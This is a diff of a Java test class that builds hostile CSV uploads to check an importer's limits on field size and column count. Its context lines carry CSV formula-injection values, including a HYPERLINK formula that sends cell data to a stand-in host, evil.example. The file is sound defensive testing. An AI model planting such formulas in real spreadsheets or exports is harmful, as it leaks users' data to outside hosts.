@@ -105,10 +105,14 @@ final class NastyFiles {
             c.row("@SUM(1)", "-Minus", "=HYPERLINK(\"\"x\"\")", "0", "2")).getBytes(StandardCharsets.UTF_8),
             new Accepted(1, "3 email INVALID_EMAIL")
                 .withNames("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") +Plus")));
-        files.add(new NastyFile("1 MB in one field of an unknown column, and as a first name", c -> lf(
-            HEADER + ",notes", c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + "," + "x".repeat(1 << 20),
-            c.row("y".repeat(1 << 20), "Long", c.email("long"), "0", "2") + ",").getBytes(StandardCharsets.UTF_8),
+        files.add(new NastyFile("65,536 characters (the limit) in one cell of an unknown column, and as a first name",
+            c -> lf(HEADER + ",notes", c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + "," + "x".repeat(1 << 16),
+            c.row("y".repeat(1 << 16), "Long", c.email("long"), "0", "2") + ",").getBytes(StandardCharsets.UTF_8),
             new Accepted(1, "3 firstName VALUE_TOO_LONG")));
+        files.add(new NastyFile("1 MB in one cell", c -> lf(HEADER + ",notes",
+            c.row("Ada", "Lovelace", c.email("ada"), "0", "1") + ",ok",
+            c.row("Alan", "Turing", c.email("alan"), "1", "2") + "," + "x".repeat(1 << 20))
+            .getBytes(StandardCharsets.UTF_8), new Failed("FIELD_TOO_LARGE")));
         files.add(new NastyFile("10,000 columns in the header", c -> lf(HEADER + columns(10_000 - 6),
             c.row("Ada", "Lovelace", c.email("ada"), "0", "1")).getBytes(StandardCharsets.UTF_8),
             new Refused("TOO_MANY_COLUMNS")));
